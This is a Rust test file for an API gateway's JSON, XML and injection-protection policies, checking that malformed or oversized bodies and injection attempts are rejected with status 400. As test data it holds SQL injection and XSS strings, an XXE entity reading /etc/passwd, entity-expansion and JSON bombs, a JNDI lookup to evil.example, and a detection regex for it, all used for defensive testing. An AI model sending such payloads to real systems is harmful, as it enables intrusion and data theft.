//! Policies that look into what clients send: good, bad and absent input.

use crate::{
    policies::{binding, with},
    support::{
        Gateway, Origin, both_drivers, eventually,
        message::{Response, get_request, ok, post_request},
    },
};

const JSON: &str = "maxContainerDepth: 3\nmaxObjectEntryCount: 3\nmaxObjectEntryNameLength: 10\n\
                    maxArrayElementCount: 4\nmaxStringValueLength: 12\n";

const XML: &str = "maxNodeDepth: 3\nmaxAttributeCountPerElement: 2\nmaxChildCount: 3\nmaxTextLength: 12\n\
                   maxAttributeLength: 8\nmaxCommentLength: 8\n";

const INJECTION: &str = "builtInProtections: [ sql, xss ]\nprotectPathAndQuery: true\nprotectHeaders: true\n\
                         protectBody: true\nrejectRequests: true\n";

both_drivers! {
    fn json_within_limits_passes_and_other_json_is_400(driver) {
        let origin = Origin::echoing();
        let gateway = Gateway::start(driver, with(&origin, &[binding("json", "json-threat-protection-flex", JSON, "")]));
        let post = |fields: &str, body: &str| gateway.client().send(post_request("/", fields, body)).response();
        const TYPE: &str = "Content-Type: application/json\r\n";
        let good = r#"{"a":[1,2,{"b":"ok"}]}"#;
        let answer = post(TYPE, good);
        assert_eq!((answer.status, answer.text()), (200, good.to_owned()), "it reaches the origin whole");
        assert_eq!(post("", good).status, 200);
        assert_eq!(gateway.client().send(get_request("/", TYPE)).response().status, 200, "no body is no threat");

        for (bad, says) in [
            (r#"[[[[]]]]"#, "nested"),
            (r#"{"a":1,"b":2,"c":3,"d":4}"#, "entries"),
            (r#"{"12345678901":1}"#, "name"),
            ("[1,2,3,4,5]", "elements"),
            (r#"["1234567890123"]"#, "string"),
            (r#"{"a":1,"\u0061":2}"#, "two entries"),
            (r#"{"a":1} x"#, "valid JSON"),
            (r#"["\ud800"]"#, "valid JSON"),
            ("{", "valid JSON"),
            ("", ""),
        ] {
            if bad.is_empty() {
                continue;
            }
            for fields in [
                TYPE,
                "content-type: application/vnd.api+JSON; charset=utf-8\r\n",
                "Content-Type: text/json\r\n",
                "Content-Type: json\r\n",
                "",
            ] {
                let answer = post(fields, bad);
                assert_eq!(answer.status, 400, "{fields}{bad}");
                assert!(answer.text().contains(says), "{bad}: {}", answer.text());
            }
        }
        for (fields, status) in [
            ("Content-Type: text/plain\r\n", 200),
            ("Content-Type: application/json\r\nContent-Type: text/plain\r\n", 400),
            ("Content-Type: application/json\r\nContent-Encoding: gzip\r\n", 400),
            ("Content-Type: application/json; charset=utf-16\r\n", 400),
            ("Content-Type: application/json\r\nContent-Encoding: identity\r\n", 400),
        ] {
            assert_eq!(post(fields, "[[[[[").status, status, "{fields}");
        }
        assert_eq!(post("", "<a>xml without a type</a>").status, 200, "no reader of JSON takes that for JSON");
    }

    fn json_in_chunks_and_json_bombs_are_judged(driver) {
        let origin = Origin::answering(ok("in"));
        let gateway = Gateway::start(driver, with(&origin, &[binding("json", "json-threat-protection-flex", "maxContainerDepth: 100", "")]));
        let head = "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
        let mut client = gateway.client();
        client.drip(format!("{head}2\r\n[1\r\n3\r\n,2]\r\n0\r\n\r\n"));
        assert_eq!(client.response().status, 200);
        for bomb in ["[".repeat(1_000_000), "{\"a\":".repeat(200_000), format!("[{}", "\"\\u0041\",".repeat(100_000))] {
            let request = post_request("/", "Content-Type: application/json\r\n", bomb);
            assert_eq!(gateway.client().send(request).response().status, 400);
        }
        let large = format!("[{}1]", "1,".repeat(524_280));
        let request = |body: String| post_request("/", "Content-Type: application/json\r\n", body);
        assert_eq!(gateway.client().send(request(large.clone())).response().status, 200);
        let mut client = gateway.client();
        client.send_what_it_takes(request(large + &" ".repeat(100)));
        assert_eq!(client.response().status, 413, "past what is looked at");
    }

    fn xml_within_limits_passes_and_other_xml_is_400(driver) {
        let origin = Origin::echoing();
        let gateway = Gateway::start(driver, with(&origin, &[binding("xml", "xml-threat-protection-flex", XML, "")]));
        let post = |fields: &str, body: &str| gateway.client().send(post_request("/", fields, body)).response();
        const TYPE: &str = "Content-Type: application/xml\r\n";
        let good = "<?xml version=\"1.0\"?><a b='1' c='2'><d>text</d><!-- ok --></a>";
        let answer = post(TYPE, good);
        assert_eq!((answer.status, answer.text()), (200, good.to_owned()));
        assert_eq!(gateway.client().send(get_request("/", TYPE)).response().status, 200, "no body is no threat");
        for (bad, says) in [
            ("<a><b><c><d/></c></b></a>", "nested"),
            ("<a b='1' c='2' d='3'/>", "attributes"),
            ("<a><b/><b/><b/><b/></a>", "children"),
            ("<a>1234567890123</a>", "text"),
            ("<a b='123456789'/>", "attribute"),
            ("<a><!--123456789--></a>", "comment"),
            ("<a><b></a>", "well-formed"),
            ("<a b='1' b='2'/>", "two attributes"),
            ("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "document type"),
            ("<!DOCTYPE a [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><a>&b;</a>", "document type"),
            ("<a>&x;</a>", "not declared"),
            ("<?xml version='1.0' encoding='utf-16'?><a/>", "UTF-8"),
        ] {
            for fields in [TYPE, "Content-Type: text/xml\r\n", "Content-Type: application/soap+xml; action=x\r\n", ""] {
                let answer = post(fields, bad);
                assert_eq!(answer.status, 400, "{fields}{bad}");
                assert!(answer.text().contains(says), "{bad}: {}", answer.text());
            }
        }
        assert_eq!(post("Content-Type: text/plain\r\n", "<a>").status, 200);
        assert_eq!(post("", "{\"json\": 1}").status, 200);
        let bomb = "<a>".repeat(300_000);
        assert_eq!(gateway.client().send(post_request("/", TYPE, bomb)).response().status, 400);
    }

    fn injections_are_400_wherever_they_stand(driver) {
        let origin = Origin::answering(ok("in"));
        let gateway = Gateway::start(driver, with(&origin, &[binding("injection", "injection-protection-flex", INJECTION, "")]));
        let send = |request: Vec<u8>| gateway.client().send(request).response();
        let blocked = |answer: Response| {
            assert_eq!(answer.status, 400);
            assert_eq!(answer.get("x-injection-protection"), Some("blocked"));
        };
        blocked(send(get_request("/?id=1%27%20or%20%271%27=%271", "")));
        blocked(send(get_request("/?id=1+union+select+1,2", "")));
        blocked(send(get_request("/a%253Cscript%253E", "")));
        blocked(send(get_request("/", "X-Name: ' or 1=1 --\r\n")));
        blocked(send(get_request("/", "Cookie: a=<script>alert(1)</script>\r\n")));
        blocked(send(post_request("/", "Content-Type: text/plain\r\n", "1; drop table users")));
        blocked(send(post_request("/", "Content-Type: application/json\r\n", "{\"a\":\"\\u003cscript\\u003e\"}")));
        blocked(send(post_request("/", "Content-Encoding: gzip\r\n", "\x1f")));
        origin.expect_nothing();

        for innocent in [
            get_request("/?name=O%27Brien&note=select+a+union+member", "Accept: text/html, */*;q=0.5\r\n"),
            post_request("/", "Content-Type: application/json\r\n", "{\"name\":\"O'Brien\"}"),
            post_request("/", "", ""),
        ] {
            let answer = send(innocent);
            assert_eq!((answer.status, answer.get("x-injection-protection")), (200, None));
        }
    }

    /// The body is there already when the second policy is asked; it looks at the head all the same.
    fn two_policies_that_read_the_body_both_look(driver) {
        let origin = Origin::answering(ok("in"));
        let yaml = with(&origin, &[
            binding("json", "json-threat-protection-flex", JSON, "order: 1\n"),
            binding("injection", "injection-protection-flex", INJECTION, "order: 2\n"),
        ]);
        let gateway = Gateway::start(driver, yaml);
        let status = |target: &str, body: &str| {
            let request = post_request(target, "Content-Type: application/json\r\n", body);
            gateway.client().send(request).response().status
        };
        assert_eq!(status("/", "{}"), 200);
        assert_eq!(status("/", "{"), 400);
        assert_eq!(status("/?q=<script>", "{}"), 400);
        assert_eq!(status("/", "{\"a\":\"<script>\"}"), 400);
    }

    fn only_what_is_to_be_protected_is_looked_at(driver) {
        let origin = Origin::answering(ok("in"));
        let config = "customProtections: [ { name: jndi, regex: '(?i)\\$\\{jndi:' } ]\nprotectPathAndQuery: false\n\
                      protectHeaders: true\nheadersToProtect: 'User-Agent, x-api'\nprotectBody: false\nrejectRequests: true\n";
        let gateway = Gateway::start(driver, with(&origin, &[binding("injection", "injection-protection-flex", config, "")]));
        let status = |lines: &str| gateway.client().send(get_request("/?x=$%7Bjndi:a", lines)).response().status;
        assert_eq!(status(""), 200);
        assert_eq!(status("user-agent: ${JNDI:ldap://evil.example/a}\r\n"), 400);
        assert_eq!(status("X-Other: ${jndi:ldap://evil.example/a}\r\n"), 200);
        assert_eq!(status("User-Agent: ' or 1=1\r\n"), 200, "only one's own rules were asked for");
    }

    fn what_is_not_rejected_is_told_in_the_log(driver) {
        let origin = Origin::answering(ok("in"));
        let config = INJECTION.replace("rejectRequests: true", "rejectRequests: false");
        let gateway = Gateway::start(driver, with(&origin, &[binding("injection", "injection-protection-flex", &config, "")]));
        let answer = gateway.client().send(get_request("/?q=<script>", "X-Request-Id: id-1\r\n")).response();
        assert_eq!((answer.status, answer.get("x-injection-protection")), (200, None));
        let line = " [ringway][WARN] [req: id-1] [injection-protection] xss in the path or query\n";
        eventually("the line is written", || stdout(&gateway).contains(line));
    }
}

#[test]
fn what_can_not_be_a_protection_is_said() {
    let origin = Origin::answering(ok("in"));
    for (policy, config, says) in [
        (
            "json-threat-protection-flex",
            "maxContainerDepth: -2",
            "must be between -1",
        ),
        (
            "json-threat-protection-flex",
            "maxDepth: 2",
            "unknown field `maxDepth`",
        ),
        (
            "xml-threat-protection-flex",
            "maxNodeDepth: deep",
            "must be an integer",
        ),
        (
            "injection-protection-flex",
            "protectBody: true",
            "looks for nothing",
        ),
        (
            "injection-protection-flex",
            "builtInProtections: [ sql ]\nprotectBody: false\nprotectHeaders: false\nprotectPathAndQuery: false",
            "looks nowhere",
        ),
        (
            "injection-protection-flex",
            "builtInProtections: [ ldap ]",
            "must be one of sql, xss",
        ),
        (
            "injection-protection-flex",
            "customProtections: [ { name: a, regex: '(' } ]",
            "is not a regular expression",
        ),
        (
            "injection-protection-flex",
            "builtInProtections: [ xss ]\nheadersToProtect: [ 'a b' ]",
            "is not the name of a header",
        ),
    ] {
        refused(&with(&origin, &[binding("bad", policy, config, "")]), says);
    }
}

/// The configuration is refused with these words.
pub(crate) fn refused(yaml: &str, says: &str) {
    let folder = crate::support::gateway::Folder::new();
    let path = folder.write("bad.yaml", &yaml.replace("@listen@", "127.0.0.1:8081"));
    let mut command = crate::support::gateway::ringway();
    command.args(["check", "--config"]).arg(path);
    let outcome = crate::support::gateway::run_to_end(&mut command, crate::support::DEADLINE);
    let text = format!("{}{}", outcome.stdout, outcome.stderr);
    assert!(text.contains(says), "{says:?} is not in:\n{text}");
}

pub(crate) fn stdout(gateway: &Gateway) -> String {
    std::fs::read_to_string(gateway.folder.path().join("stdout")).unwrap_or_default()
}
